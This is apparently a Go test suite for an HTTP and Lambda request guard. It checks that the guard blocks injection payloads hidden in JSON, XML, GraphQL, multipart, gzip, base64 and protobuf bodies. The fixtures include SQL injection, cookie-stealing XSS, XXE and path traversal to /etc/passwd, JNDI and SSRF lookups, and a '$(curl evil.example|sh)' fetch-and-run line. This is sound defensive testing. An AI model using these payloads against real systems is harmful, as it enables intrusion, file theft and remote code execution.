package guard

import (
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
)

func bodyInv(ct string, body []byte, headers ...Param) *Invocation {
	return httpInv(func(i *Invocation) {
		i.Method = "POST"
		i.ContentType = ct
		i.Body = body
		i.Headers = append(i.Headers, headers...)
	})
}

func gz(t testing.TB, b []byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := gzip.NewWriter(&buf)
	if _, err := w.Write(b); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// TestBenignBodies: real document shapes (testdata/bodies) pass the default
// policy, sent as what they are and, for GraphQL, inside JSON.
func TestBenignBodies(t *testing.T) {
	g, _ := newTestGuard(t)
	files, err := filepath.Glob("testdata/bodies/*")
	if err != nil || len(files) == 0 {
		t.Fatalf("no fixtures: %v", err)
	}
	for _, f := range files {
		body, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		var cts []string
		switch filepath.Ext(f) {
		case ".graphql":
			q, _ := json.Marshal(map[string]any{"query": string(body), "variables": map[string]any{"customerId": "Q3VzdG9tZXI6NDI="}})
			cases := map[string][]byte{"application/graphql": body, "application/json": q, "": q, "text/plain": body}
			for ct, b := range cases {
				t.Run(filepath.Base(f)+" as "+ct, func(t *testing.T) {
					if d := g.Inspect(context.Background(), bodyInv(ct, b)); d.Action != ActionAllow {
						t.Fatalf("benign body refused: %+v", d)
					}
				})
			}
			// And as the query parameter of a GET /graphql request.
			t.Run(filepath.Base(f)+" in the query string", func(t *testing.T) {
				inv := httpInv(func(i *Invocation) { i.Query = []Param{{"query", string(body)}} })
				if d := g.Inspect(context.Background(), inv); d.Action != ActionAllow {
					t.Fatalf("benign query refused: %+v", d)
				}
			})
			continue
		case ".json":
			cts = []string{"application/json", "", "application/x-www-form-urlencoded"}
		case ".xml":
			cts = []string{"application/xml", "text/xml; charset=utf-8", "application/soap+xml", ""}
		case ".multipart":
			b := strings.TrimPrefix(string(body[:bytes.IndexByte(body, '\r')]), "--")
			cts = []string{`multipart/form-data; boundary="` + b + `"`, "multipart/form-data", ""}
		}
		for _, ct := range cts {
			t.Run(filepath.Base(f)+" as "+ct, func(t *testing.T) {
				if d := g.Inspect(context.Background(), bodyInv(ct, body)); d.Action != ActionAllow {
					t.Fatalf("benign body refused: %+v", d)
				}
			})
		}
		// Gzip-encoded, each is still what it was.
		if len(cts) > 0 {
			t.Run(filepath.Base(f)+" gzip", func(t *testing.T) {
				d := g.Inspect(context.Background(), bodyInv(cts[0], gz(t, body), Param{"content-encoding", "gzip"}))
				if d.Action != ActionAllow {
					t.Fatalf("benign gzip body refused: %+v", d)
				}
			})
		}
	}
}

// TestBodiesAsWhatTheyAre: attacks in every kind of body are found where
// the handler would read them, and the bypasses of issue 16 are closed.
func TestBodiesAsWhatTheyAre(t *testing.T) {
	g, _ := newTestGuard(t)
	b64 := func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
	var zl bytes.Buffer
	zw := zlib.NewWriter(&zl)
	zw.Write([]byte(`{"note":"<script>alert(document.cookie)</script>"}`))
	zw.Close()
	mp := func(headers, body string) []byte {
		return []byte("--XyZ\r\n" + headers + "\r\n\r\n" + body + "\r\n--XyZ--\r\n")
	}
	cases := []struct {
		name    string
		ct      string
		body    []byte
		headers []Param
		loc     string
		cat     Category
	}{
		{"graphql argument", "application/json", []byte(`{"query":"query {\n  order(note: \"1' OR '1'='1' --\") {\n    id\n  }\n}"}`), nil, "body.query<graphql>.note", SQLi},
		{"graphql variables", "application/json", []byte(`{"query":"mutation($n: String) { add(note: $n) { id } }","variables":{"n":"<script>alert(1)</script>"}}`), nil, "body.variables.n", XSS},
		{"graphql directive", "application/graphql", []byte("{\n  user @client(path: \"../../../../etc/passwd\") {\n    id\n  }\n}"), nil, "body<graphql>.path", PathTraversal},
		{"graphql block string", "application/graphql", []byte("mutation {\n  post(text: \"\"\"\n${jndi:ldap://evil.example/a}\n\"\"\") { id }\n}"), nil, "body<graphql>.text", JNDI},
		{"graphql comment", "application/graphql", []byte("{\n  id # <script>alert(1)</script>\n}"), nil, "body<graphql>", XSS},
		{"xml text", "application/xml", []byte(`<?xml version="1.0"?><order xmlns="urn:x"><note>' UNION SELECT password FROM users--</note></order>`), nil, "body.order.note", SQLi},
		{"xml attribute", "text/xml", []byte(`<order xmlns:o="urn:o"><o:item sku="$(curl evil.example|sh)"/></order>`), nil, "body.order.item.@sku", CmdI},
		{"xml external entity", "application/xml", []byte(`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`), nil, "body", XXE},
		{"xml xinclude", "application/xml", []byte(`<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="secrets.txt" parse="text"/></r>`), nil, "body.r.@xi", XXE},
		{"xml script element", "application/xml", []byte(`<page xmlns="urn:p"><script>alert(document.cookie)</script></page>`), nil, "body.page.script", XSS},
		{"xml escaped markup", "application/xml", []byte(`<page xmlns="urn:p"><c>&lt;img src=x onerror=alert(1)&gt;</c></page>`), nil, "body.page.c", XSS},
		{"gzip body", "application/json", gz(t, []byte(`{"q":"1' OR '1'='1"}`)), []Param{{"content-encoding", "gzip"}}, "body.q", SQLi},
		{"deflate body", "application/json", zl.Bytes(), []Param{{"content-encoding", "deflate"}}, "body.note", XSS},
		{"json in a json string", "application/json", []byte(`{"Type":"Notification","Message":"{\"order\":{\"note\":\"'; DROP TABLE orders;--\"}}"}`), nil, "body.Message<json>.order.note", SQLi},
		{"base64 field", "application/json", []byte(`{"data":"` + b64(`{"cmd":"x; cat /etc/passwd"}`) + `"}`), nil, "body.data<base64>.cmd", CmdI},
		{"base64 text field", "application/json", []byte(`{"data":"` + b64(`<svg onload=alert(1)>`) + `"}`), nil, "body.data<base64>", XSS},
		{"octet-stream with one invalid byte", "application/octet-stream", []byte("{\"q\":\"1' OR '1'='1' --\xff\"}"), nil, "body.q", SQLi},
		{"image type that is json", "image/png", []byte(`{"url":"http://169.254.169.254/latest/meta-data/"}`), nil, "body.url", SSRF},
		{"pdf type that is text", "application/pdf", []byte("hello\xfe ${jndi:ldap://evil.example/x}"), nil, "body", JNDI},
		{"json declared as a form", "application/x-www-form-urlencoded", []byte(`{"callback":"http://169.254.169.254/latest/meta-data/iam/"}`), nil, "body.callback", SSRF},
		{"multipart quoted-printable", "multipart/form-data; boundary=XyZ", mp("Content-Disposition: form-data; name=\"q\"\r\nContent-Transfer-Encoding: quoted-printable", "1=27 OR =271=27=3D=271"), nil, "body.q", SQLi},
		{"multipart base64", "multipart/form-data; boundary=XyZ", mp("Content-Disposition: form-data; name=\"q\"\r\nContent-Transfer-Encoding: base64", b64("<script>alert(1)</script>")), nil, "body.q", XSS},
		{"multipart whole file name", "multipart/form-data; boundary=XyZ", mp(`Content-Disposition: form-data; name="f"; filename="../../../../etc/cron.d/x.txt"`, "hi"), nil, `body["f.filename"]`, PathTraversal},
		{"multipart declared as text", "text/plain", mp(`Content-Disposition: form-data; name="q"`, "1' OR '1'='1' --"), nil, "body.q", SQLi},
		{"multipart without boundary parameter", "multipart/form-data", mp(`Content-Disposition: form-data; name="q"`, "<script>alert(1)</script>"), nil, "body.q", XSS},
		{"form value", "application/x-www-form-urlencoded", []byte(`a=1&b=%3Cscript%3Ealert(1)%3C%2Fscript%3E`), nil, "body.b", XSS},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			d := g.Inspect(context.Background(), bodyInv(tc.ct, tc.body, tc.headers...))
			if d.Action != ActionBlock || findingAt(d, tc.loc, tc.cat) == nil {
				t.Fatalf("want a %s block at %s: %+v", tc.cat, tc.loc, d)
			}
		})
	}
}

// TestDecodeBounds: decoding never allocates past the body limit and
// refuses bombs and unsupported codings.
func TestDecodeBounds(t *testing.T) {
	g, _ := newTestGuard(t, WithMaxBodyBytes(1<<20))
	hex := make([]byte, 3<<19)
	for i, x := 0, uint32(1); i < len(hex); i++ {
		x ^= x << 13
		x ^= x >> 17
		x ^= x << 5
		hex[i] = "0123456789abcdef"[x&15]
	}
	zeros := gz(t, hex)                  // 1.5 MiB of random hex digits, about half that compressed: over the limit once decoded
	bomb := gz(t, make([]byte, 900<<10)) // 900 KiB of zeros: under the limit, ratio ~1000:1
	fine := gz(t, bytes.Repeat([]byte(`{"sku":"A-1","qty":2},`), 50))
	cases := []struct {
		name   string
		body   []byte
		ce     string
		status int
		rule   string
	}{
		{"over the limit", zeros, "gzip", 413, "validation.decoded_too_large"},
		{"ratio", bomb, "gzip", 413, "validation.compression_ratio"},
		{"not gzip", []byte("plain"), "gzip", 400, "validation.invalid_encoding"},
		{"brotli", []byte{0x1b, 0x00}, "br", 415, "validation.unsupported_encoding"},
		{"fine", append(append([]byte("["), fine...), ']'), "", 0, ""},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			var hs []Param
			if tc.ce != "" {
				hs = append(hs, Param{"content-encoding", tc.ce})
			}
			d := g.Inspect(context.Background(), bodyInv("application/octet-stream", tc.body, hs...))
			if tc.status == 0 {
				if d.Action != ActionAllow {
					t.Fatalf("refused: %+v", d)
				}
				return
			}
			if d.Status != tc.status || findingRule(d, tc.rule) == nil {
				t.Fatalf("want %d %s: %+v", tc.status, tc.rule, d)
			}
		})
	}
}

func findingRule(d Decision, rule string) *Finding {
	for i := range d.Findings {
		if d.Findings[i].Rule == rule {
			return &d.Findings[i]
		}
	}
	return nil
}

// TestFieldEncodings: adapters declare how a field is encoded and what it
// is; the engine decodes and parses it.
func TestFieldEncodings(t *testing.T) {
	g, _ := newTestGuard(t)
	b64 := base64.StdEncoding.EncodeToString
	logs := b64(gz(t, []byte(`{"messageType":"DATA_MESSAGE","logEvents":[{"id":"1","message":"GET /?q=${jndi:ldap://evil.example/a}"}]}`)))
	// A protobuf message: field 1 (string) "orders/42", field 2 (message) { field 1 (string) "' OR 1=1 --" }.
	inner := append([]byte{0x0a, byte(len("' OR 1=1 --"))}, "' OR 1=1 --"...)
	proto := append(append([]byte{0x0a, 9}, "orders/42"...), append([]byte{0x12, byte(len(inner))}, inner...)...)
	cases := []struct {
		name string
		f    Field
		loc  string
		cat  Category
		rule string
	}{
		{"gzip+base64 json", Field{Loc: "awslogs.data", Value: logs, Encoding: EncodingGzipBase64, Kind: KindJSON}, "awslogs.data<gzip+base64>.logEvents[0].message", JNDI, ""},
		{"base64 body", Field{Loc: "value", Value: b64([]byte(`<r xmlns="urn:r"><n>x; cat /etc/passwd</n></r>`)), Encoding: EncodingBase64, Kind: KindBody}, "value<base64>.r.n", CmdI, ""},
		{"protobuf", Field{Loc: "data", Value: string(proto), Kind: KindProtobuf}, "data<protobuf>.2.1", SQLi, ""},
		{"graphql", Field{Loc: "info.selectionSetGraphQL", Value: "{\n  id\n  name(x: \"<script>alert(1)</script>\")\n}", Kind: KindGraphQL}, "info.selectionSetGraphQL<graphql>.x", XSS, ""},
		{"bad base64", Field{Loc: "value", Value: "not base64!", Encoding: EncodingBase64}, "value", Validation, "validation.invalid_encoding"},
		{"bad protobuf", Field{Loc: "data", Value: "\xff\xff\xff", Kind: KindProtobuf}, "data", Validation, "validation.invalid_protobuf"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			inv := &Invocation{Source: SourceLambdaUnknown, Records: []Record{{ID: "r0", Fields: []Field{tc.f}}}}
			d := g.Inspect(context.Background(), inv)
			f := findingAt(d, "records[0]."+tc.loc, tc.cat)
			if f == nil || (tc.rule != "" && f.Rule != tc.rule) {
				t.Fatalf("want %s at records[0].%s: %+v", tc.cat, tc.loc, d)
			}
		})
	}
	// Benign encoded fields pass.
	benign := []Field{
		{Loc: "awslogs.data", Value: b64(gz(t, []byte(`{"messageType":"DATA_MESSAGE","logEvents":[{"id":"1","message":"GET /orders/42 200 12ms"}]}`))), Encoding: EncodingGzipBase64, Kind: KindJSON},
		{Loc: "value", Value: b64([]byte(`{"order":42}`)), Encoding: EncodingBase64, Kind: KindBody},
		{Loc: "value", Value: b64([]byte{0x00, 0x01, 0xfe, 0xff, 0x10}), Encoding: EncodingBase64, Kind: KindBody},
		{Loc: "data", Value: string([]byte{0x0a, 9, 'o', 'r', 'd', 'e', 'r', 's', '/', '4', '2', 0x10, 0x2a}), Kind: KindProtobuf},
		{Loc: "info.selectionSetGraphQL", Value: "{\n  id\n  field1\n  field2\n}", Kind: KindGraphQL},
	}
	for i, f := range benign {
		inv := &Invocation{Source: SourceLambdaUnknown, Fields: []Field{f}}
		if d := g.Inspect(context.Background(), inv); d.Action != ActionAllow {
			t.Errorf("benign field %d refused: %+v", i, d)
		}
	}
}

// A gzip+base64 field's gzip stream is decoded into the pooled scanner's
// buffer: batches of different sizes in turn, several in one invocation, a
// stream with a bad checksum and invalid base64 between them, are each judged as the
// batch they are (nothing of the one before is read).
func TestGzipBase64FieldsInTurn(t *testing.T) {
	g, _ := newTestGuard(t)
	b64 := base64.StdEncoding.EncodeToString
	batch := func(n int, last string) string {
		var sb strings.Builder
		sb.WriteString(`{"messageType":"DATA_MESSAGE","logEvents":[`)
		for i := range n {
			fmt.Fprintf(&sb, `{"id":"%d","message":"2026-12-06T14:00:00.000Z\tINFO\tshipped order %d"},`, i, i)
		}
		sb.WriteString(`{"id":"last","message":` + strconv.Quote(last) + `}]}`)
		return b64(gz(t, []byte(sb.String())))
	}
	big, small := batch(400, "GET /orders/42 200 12ms"), batch(3, "GET /?q=${jndi:ldap://evil.example/a}")
	badSum := gz(t, []byte(`{"logEvents":[{"id":"1","message":"GET /orders/42 200 12ms"}]}`))
	badSum[len(badSum)-8] ^= 1 // the trailer's CRC-32
	field := func(v string) Field {
		return Field{Loc: "awslogs.data", Value: v, Encoding: EncodingGzipBase64, Kind: KindJSON}
	}
	for round := range 2 {
		steps := []struct {
			name   string
			fields []Field
			rule   string // "" for a clean invocation
			loc    string
		}{
			{"big clean", []Field{field(big)}, "", ""},
			{"small attack", []Field{field(small)}, "jndi", "awslogs.data<gzip+base64>.logEvents[3].message"},
			{"bad checksum", []Field{field(b64(badSum))}, "validation.invalid_encoding", "awslogs.data"},
			{"big clean again", []Field{field(big)}, "", ""},
			{"not base64", []Field{field("not base64!")}, "validation.invalid_encoding", "awslogs.data"},
			{"big then small", []Field{field(big), field(small)}, "jndi", "awslogs.data<gzip+base64>.logEvents[3].message"},
		}
		for _, st := range steps {
			d := g.Inspect(context.Background(), &Invocation{Source: SourceCloudWatchLogs, Fields: st.fields})
			if st.rule == "" {
				if d.Action != ActionAllow {
					t.Fatalf("round %d, %s: refused: %+v", round, st.name, d)
				}
				continue
			}
			found := false
			for _, f := range d.Findings {
				found = found || strings.HasPrefix(f.Rule, st.rule) && f.Location == st.loc
			}
			if !found {
				t.Fatalf("round %d, %s: want %s at %s: %+v", round, st.name, st.rule, st.loc, d)
			}
		}
	}
}

// A field that does not decode is named in its record in the reason
// (records[i].loc), as sent at the top level; a batch's decoded fields in
// turn are located under their record, each with its encoding.
func TestDecodeErrorsNameRecord(t *testing.T) {
	g, _ := newTestGuard(t)
	b64 := base64.StdEncoding.EncodeToString
	good := gz(t, []byte(`{"logEvents":[{"id":"1","message":"GET /orders/42 200 12ms"}]}`))
	bad := gz(t, []byte(`{"logEvents":[{"id":"2","message":"GET /?q=${jndi:ldap://evil.example/a}"}]}`))
	badSum := bytes.Clone(good)
	badSum[len(badSum)-8] ^= 1 // the trailer's CRC-32
	cases := []struct {
		name   string
		inv    *Invocation
		reason string
		loc    string
	}{
		{"top level", &Invocation{Source: SourceCloudWatchLogs, Fields: []Field{{Loc: "awslogs.data", Value: "not base64!", Encoding: EncodingGzipBase64, Kind: KindJSON}}},
			"awslogs.data is not valid base64", "awslogs.data"},
		{"second record", &Invocation{Source: SourceKinesis, Records: []Record{
			{ID: "r0", Fields: []Field{{Loc: "kinesis.data", Value: string(good), Encoding: EncodingGzip, Kind: KindBody}}},
			{ID: "r1", Fields: []Field{{Loc: "kinesis.data", Value: string(badSum), Encoding: EncodingGzip, Kind: KindBody}}},
		}}, "records[1].kinesis.data does not decompress: ", "records[1].kinesis.data"},
		{"third record's base64", &Invocation{Source: SourceLambdaUnknown, Records: []Record{
			{ID: "r0"}, {ID: "r1"},
			{ID: "r2", Fields: []Field{{Loc: "awslogs.data", Value: "not base64!", Encoding: EncodingGzipBase64, Kind: KindJSON}}},
		}}, "records[2].awslogs.data is not valid base64", "records[2].awslogs.data"},
	}
	for _, tc := range cases {
		d := g.Inspect(context.Background(), tc.inv)
		found := false
		for _, f := range d.Findings {
			found = found || f.Location == tc.loc && f.Category == Validation
		}
		if !found || !strings.Contains(d.Reason, tc.reason) {
			t.Errorf("%s: want %q at %s: %+v", tc.name, tc.reason, tc.loc, d)
		}
	}
	// records in turn: each decoded field under its record
	var recs []Record
	for i := range 4 {
		data := good
		if i == 2 {
			data = bad
		}
		recs = append(recs, Record{ID: fmt.Sprint(i), Fields: []Field{{Loc: "kinesis.data", Value: string(data), Encoding: EncodingGzip, Kind: KindBody}}})
	}
	recs = append(recs, Record{ID: "4", Fields: []Field{{Loc: "awslogs.data", Value: b64(bad), Encoding: EncodingGzipBase64, Kind: KindJSON}}})
	d := g.Inspect(context.Background(), &Invocation{Source: SourceKinesis, Records: recs})
	for _, loc := range []string{"records[2].kinesis.data<gzip>.logEvents[0].message", "records[4].awslogs.data<gzip+base64>.logEvents[0].message"} {
		if findingAt(d, loc, JNDI) == nil {
			t.Errorf("no jndi finding at %s: %+v", loc, d)
		}
	}
	for _, f := range d.Findings {
		if f.Record != 2 && f.Record != 4 {
			t.Errorf("a finding in record %d: %+v", f.Record, f)
		}
	}
}
